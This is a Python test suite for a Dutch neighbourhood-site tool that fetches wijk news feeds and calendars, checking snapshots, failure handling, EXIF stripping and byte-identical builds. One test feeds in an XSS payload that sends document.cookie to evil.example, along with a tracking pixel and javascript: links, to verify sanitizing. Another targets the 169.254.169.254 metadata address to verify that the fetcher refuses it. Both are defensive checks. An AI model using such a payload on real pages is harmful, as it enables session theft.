"""`bovenwijks ophalen` against real servers on 127.0.0.1: what it reports, what it keeps, what the site shows.

Each wijk's own website is a `Bronserver` (tests/bronserver.py); the demo wijken's sites
(tests/bronnen/) stand in for a WordPress site, a Hugo site and two calendars.
"""

from __future__ import annotations

import filecmp
import json
import shutil
import subprocess
import sys
from datetime import timedelta

import pytest
from bronserver import Bestand, Doorverwijzing, Fout, Groot, Traag, websites
from city import REPO
from PIL import Image
from snapshots import NU, event, ics, momentopname, ophalen, rss

from bovenwijks.content.opgehaald import FEED, KALENDER, pad
from bovenwijks.tools.fetch import Limieten

VATHORST_FEED = "https://www.vathorstdevelden.example/feed/"
VATHORST_KALENDER = "https://www.vathorstdevelden.example/agenda.ics"
SOEST_FEED = "https://www.soesterkwartier.example/atom.xml"
SOEST_KALENDER = "https://www.soesterkwartier.example/agenda.ics"


@pytest.fixture
def demo(city, bronserver):
    """The two demo wijken with their own websites, served here."""
    hier = websites(bronserver)
    city.wijk("vathorst-de-velden", "Vathorst De Velden", feed=hier[VATHORST_FEED], kalender=hier[VATHORST_KALENDER])
    city.wijk("soesterkwartier", "Soesterkwartier", feed=hier[SOEST_FEED], kalender=hier[SOEST_KALENDER])
    return city


def test_a_wordpress_feed_an_atom_feed_and_two_calendars_come_in(demo, bronserver):
    code, out, err = ophalen(demo)
    assert code == 0, out + err
    assert "vathorst-de-velden, de nieuwsfeed (" in out and ": nieuw: 6 berichten" in out
    assert "soesterkwartier, de nieuwsfeed (" in out and ": nieuw: 4 berichten" in out
    assert "vathorst-de-velden, de agenda (" in out and "soesterkwartier, de agenda (" in out
    feed = momentopname(demo, FEED, "vathorst-de-velden")
    assert feed.site == "Bewonersvereniging De Velden" and all("/?p=" in i["id"] for i in feed.items)
    assert all("<script" not in i["html"] for i in feed.items)
    # Relative links in the WordPress text are absolute to the source (`/agenda/`: its root here).
    assert any('href="' + bronserver.url("/agenda/") + '"' in i["html"] for i in feed.items)
    kalender = momentopname(demo, KALENDER, "vathorst-de-velden")
    koffie = next(i for i in kalender.items if i["herhaling"] and i["herhaling"]["elke"] == "week")
    assert {"datum": "2026-12-29", "reden": None} in koffie["herhaling"]["behalve"]
    assert not any("2025" in i["start"][:4] for i in kalender.items)  # Burendag 2025 is history
    taal = momentopname(demo, KALENDER, "soesterkwartier")
    # The moved time stands alone, and says its day beside its series.
    moved = next(i for i in taal.items if i["id"].endswith("#20270121"))
    assert moved["titel"] == "Taalcafé overdag op 21 januari 2027" and moved["slug"] == "taalcafe-overdag-2027-01-21"

    built = demo.build(strict=True)
    assert built.error is None, built.warnings
    wijk = built.article("wijken/vathorst-de-velden/")
    for item in feed.items:
        assert item["titel"].replace("&", "&amp;") in wijk or item["titel"] in built.listing("nieuws/")
    assert "Verschenen op" in built.article(f"wijken/vathorst-de-velden/nieuws/{feed.items[0]['slug']}/")
    assert "Taalcaf" in built.article("agenda/")


def test_photos_are_downloaded_once_without_their_metadata(demo, bronserver):
    ophalen(demo)
    fotos = sorted((demo.root / "wijken/vathorst-de-velden/_opgehaald/fotos").iterdir())
    assert fotos, "the posts' photos are downloaded"
    for foto in fotos:
        with Image.open(foto) as image:
            assert not image.getexif(), f"{foto.name} keeps its EXIF"
    lampion = bronserver.van("/www.vathorstdevelden.example/wp-content/uploads/2026/11/lampionnenoptocht.jpg")
    assert len(lampion) == 1
    ophalen(demo, nu=NU + timedelta(days=1))
    assert len(bronserver.van("/www.vathorstdevelden.example/wp-content/uploads/2026/11/lampionnenoptocht.jpg")) == 1
    built = demo.build(strict=True)
    page = built.page("wijken/vathorst-de-velden/")
    assert "vathorstdevelden.example/wp-content" not in page and "127.0.0.1" not in page.split("Eigen nieuwsfeed")[0]


def test_an_unchanged_source_costs_a_304_and_writes_nothing(demo, bronserver):
    ophalen(demo)
    path = pad(demo.root / "wijken/vathorst-de-velden", FEED)
    before = path.read_bytes()
    code, out, _ = ophalen(demo, nu=NU + timedelta(days=1))
    assert code == 0
    assert "vathorst-de-velden, de nieuwsfeed" in out and "ongewijzigd (de server zegt: niets nieuws)" in out
    requests = bronserver.van("/www.vathorstdevelden.example/feed/")
    assert requests[-1].status == 304 and requests[-1].headers["If-None-Match"]
    assert path.read_bytes() == before


@pytest.fixture
def oost(city, bronserver):
    url = bronserver.zet(
        "/feed/",
        Bestand(rss(("p1", "Kerstmarkt", "<p>Op het plein.</p>"), ("p2", "Snoeidag", "<p>Bij de vijver.</p>")), "application/rss+xml"),
    )
    city.wijk("oost", "Oost", feed=url)
    assert ophalen(city)[0] == 0
    return city


@pytest.mark.parametrize(
    ("route", "reason"),
    [
        (Fout(500), "de server gaf foutcode 500"),
        (Traag(), "duurde te lang"),
        (Groot(), "50 MB"),
        (Doorverwijzing("/feed/"), "doorverwijzing"),
        (Bestand(b"<!doctype html><html><head><title>Oost</title></head><body><p>Welkom</p></body></html>", "text/html"), "webpagina"),
        (Bestand(rss(), "application/rss+xml"), "geen berichten"),
    ],
    ids=["500", "een-byte-per-seconde", "50-MB", "doorverwijzing-in-een-kring", "html-pagina", "lege-feed"],
)
def test_a_failing_source_keeps_its_last_snapshot_and_says_so(oost, bronserver, route, reason):
    before = momentopname(oost, FEED)
    bronserver.zet("/feed/", route)
    # The read timeout well above the slow server's second between bytes: only the deadline can end it,
    # however busy the machine (with read=1 the two timeouts raced).
    code, _out, err = ophalen(oost, nu=NU + timedelta(days=3), limieten=Limieten(connect=1, read=5, totaal=2))
    assert code == 1
    assert "oost, de nieuwsfeed (" in err and reason.lower() in err.lower(), err
    assert "De vorige stand blijft staan (2 berichten, van 23 november 2026, 3 dagen oud)" in err
    after = momentopname(oost, FEED)
    assert after.items == before.items and after.mislukt_sinds == NU + timedelta(days=3)
    built = oost.build(strict=True)
    assert built.error is None and built.exists("wijken/oost/nieuws/kerstmarkt/")


def test_a_week_of_failures_warns_the_editors(oost, bronserver):
    bronserver.zet("/feed/", Fout(500))
    for day in range(1, 9):
        ophalen(oost, nu=NU + timedelta(days=day))
    snapshot = momentopname(oost, FEED)
    assert snapshot.mislukt_sinds == NU + timedelta(days=1)  # the first failure, kept
    result = oost.check(env={"BOVENWIJKS_BUILD_DATE": "2026-12-01"})
    assert result.returncode == 0
    assert "wijken/oost/index.md:" in result.stdout and "kan al 7 dagen niet worden opgehaald" in result.stdout
    bronserver.zet(
        "/feed/",
        Bestand(rss(("p1", "Kerstmarkt", "<p>Op het plein.</p>"), ("p2", "Snoeidag", "<p>Bij de vijver.</p>")), "application/rss+xml"),
    )
    code, out, _ = ophalen(oost, nu=NU + timedelta(days=9))
    assert code == 0 and "ongewijzigd, en weer bereikbaar" in out
    assert momentopname(oost, FEED).mislukt_sinds is None


def test_a_hostile_feed_is_cleaned_and_its_pixel_never_fetched(city, bronserver):
    hostile = (
        '<p>Welkom<script>document.location="https://evil.example/?"+document.cookie</script></p>'
        '<p><img src="https://tracker.example/p.gif" width="1" height="1" alt=""></p>'
        '<p><img src="x.jpg" onerror="alert(1)" alt="x"></p>'
        '<p><a href="javascript:alert(1)">klik</a> <a href="/lees-meer/">meer</a></p>'
        '<iframe src="https://video.example/embed/1"></iframe>'
    )
    url = bronserver.zet("/feed/", Bestand(rss(("p1", "Welkom", hostile)), "application/rss+xml"))
    city.wijk("oost", "Oost", feed=url)
    ophalen(city)
    html = momentopname(city, FEED).items[0]["html"]
    for bad in ("<script", "evil.example", "onerror", "javascript:", "<iframe", "tracker.example", "<img"):
        assert bad not in html
    assert 'href="https://oost.example/lees-meer/"' in html or 'href="' + bronserver.url("/lees-meer/") in html
    built = city.build(strict=True)
    page = built.page("wijken/oost/nieuws/welkom/")
    for bad in ("evil.example", "tracker.example", "video.example", "onerror", "javascript:"):
        assert bad not in page


def test_a_private_address_is_refused_without_lokaal(city, bronserver):
    url = bronserver.zet("/feed/", Bestand(rss(("p1", "Kerstmarkt", "<p>Op het plein.</p>")), "application/rss+xml"))
    city.wijk("oost", "Oost", feed=url, kalender="http://169.254.169.254/latest/meta-data/")
    code, _, err = ophalen(city, lokaal=False)
    assert code == 1
    assert "127.0.0.1 is een loopback-adres" in err and "169.254.169.254 is een link-local adres" in err
    assert not bronserver.van("/feed/")


def test_items_the_source_drops(oost, bronserver):
    bronserver.zet("/feed/", Bestand(rss(("p2", "Snoeidag op zaterdag", "<p>Bij de vijver.</p>")), "application/rss+xml"))
    code, out, _ = ophalen(oost, nu=NU + timedelta(days=1))
    assert code == 0 and "gewijzigd: 1 bijgewerkt" in out
    items = {i["id"]: i for i in momentopname(oost, FEED).items}
    assert set(items) == {"p1", "p2"}  # the bericht the feed no longer shows stays
    assert items["p2"]["slug"] == "snoeidag" and items["p2"]["titel"] == "Snoeidag op zaterdag"  # its address too


def test_a_calendar_drops_a_coming_activiteit_and_keeps_a_past_one(city, bronserver):
    url = bronserver.zet(
        "/agenda.ics", Bestand(ics(event("a", "20261120T190000Z", "Voorbij"), event("b", "20261210T190000Z", "Straks")), "text/calendar")
    )
    city.wijk("oost", "Oost", kalender=url)
    ophalen(city)
    bronserver.zet("/agenda.ics", Bestand(ics(event("c", "20261215T190000Z", "Nieuw")), "text/calendar"))
    code, out, _ = ophalen(city, nu=NU + timedelta(days=1))
    assert code == 0 and "1 nieuw" in out and "1 weg" in out
    assert {i["id"] for i in momentopname(city, KALENDER).items} == {"a", "c"}


def test_removing_the_key_removes_what_it_brought(oost):
    oost.wijk("oost", "Oost")
    code, out, _ = ophalen(oost)
    assert code == 0 and "'feed' staat niet meer in index.md" in out
    assert not (oost.root / "wijken/oost/_opgehaald").exists()


def test_a_wijk_with_a_broken_index_keeps_what_it_imported(oost):
    oost.write("wijken/oost/index.md", "---\nnaam: Oost\nfeed: [\n---\n")
    code, _, err = ophalen(oost)
    assert code == 1 and "oost: overgeslagen, want wijken/oost/index.md heeft een fout" in err
    assert pad(oost.root / "wijken/oost", FEED).is_file()


def test_two_builds_from_the_same_snapshots_are_byte_identical(demo, tmp_path):
    ophalen(demo)
    first = demo.build(strict=True)
    assert first.error is None, first.warnings
    kept = tmp_path / "eerste"
    shutil.copytree(first.site, kept)
    shutil.rmtree(first.site)
    second = demo.build(strict=True)
    assert second.error is None
    compared = filecmp.dircmp(kept, second.site)

    def differences(c) -> list[str]:
        found = [*c.left_only, *c.right_only, *c.diff_files, *c.funny_files]
        for sub in c.subdirs.values():
            found.extend(differences(sub))
        return found

    assert differences(compared) == []
    assert any(kept.rglob("*.ics")) and json.loads((kept / "data/berichten.json").read_text())["aantal"] >= 10


def test_the_command_line(city, bronserver):
    url = bronserver.zet("/feed/", Bestand(rss(("p1", "Kerstmarkt", "<p>Op het plein.</p>")), "application/rss+xml"))
    city.wijk("oost", "Oost", feed=url)
    run = [sys.executable, "-m", "bovenwijks.tools.cli", "ophalen", "--root", str(city.root)]
    refused = subprocess.run(run, capture_output=True, text=True, check=False)
    assert refused.returncode == 1 and "loopback" in refused.stderr and not bronserver.van("/feed/")
    fetched = subprocess.run([*run, "--lokaal", "--wijk", "oost"], capture_output=True, text=True, check=False)
    assert fetched.returncode == 0, fetched.stderr
    assert "oost, de nieuwsfeed (" in fetched.stdout and "nieuw: 1 bericht" in fetched.stdout
    agent = bronserver.van("/feed/")[-1].headers["User-Agent"]
    assert agent.startswith("bovenwijks/") and "https://stad.example/" in agent
    unknown = subprocess.run([*run, "--wijk", "ost"], capture_output=True, text=True, check=False)
    assert unknown.returncode == 2 and "er is geen wijk 'ost'" in unknown.stderr


def test_the_demo_snapshots_are_what_the_demo_sources_give(tmp_path):
    """`scripts/demo-opgehaald` writes the committed snapshots again, the same."""
    copy = tmp_path / "stad"
    shutil.copytree(REPO / "wijken", copy / "wijken")
    shutil.copytree(REPO / "content", copy / "content")
    shutil.copy(REPO / "mkdocs.yml", copy / "mkdocs.yml")
    for folder in [*(copy / "wijken").glob("*/_opgehaald"), copy / "wijken" / "_steden"]:
        shutil.rmtree(folder)
    result = subprocess.run(
        [sys.executable, str(REPO / "scripts" / "demo-opgehaald"), "--root", str(copy)], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr
    written = sorted(p.relative_to(copy).as_posix() for p in (copy / "wijken").glob("*/_opgehaald/**/*") if p.is_file())
    committed = sorted(p.relative_to(REPO).as_posix() for p in (REPO / "wijken").glob("*/_opgehaald/**/*") if p.is_file())
    assert written == committed and len(written) >= 4
    written += ["wijken/_steden/utrecht.json"]  # the demo's other city
    for path in written:
        assert (copy / path).read_bytes() == (REPO / path).read_bytes(), path
    # Every one of Utrecht's initiatieven that offers something came through its schema check.
    bron = json.loads((REPO / "tests/bronnen/utrecht.bovenwijks.example/data/initiatieven.json").read_text(encoding="utf-8"))
    utrecht = json.loads((REPO / "wijken/_steden/utrecht.json").read_text(encoding="utf-8"))
    assert {i["id"] for i in utrecht["initiatieven"]} == {i["id"] for i in bron["items"] if i["biedt"]} != set()


def test_an_example_address_is_skipped_and_its_snapshot_kept(oost):
    before = pad(oost.root / "wijken/oost", FEED).read_bytes()
    oost.wijk("oost", "Oost", feed="https://www.oost.example/feed/", kalender="https://agenda.oost.test/a.ics")
    code, out, _ = ophalen(oost)
    assert code == 0
    assert out.count("overgeslagen: een voorbeeldadres, dat geen server beantwoordt") == 2
    assert "Geen enkele wijk" not in out and pad(oost.root / "wijken/oost", FEED).read_bytes() == before
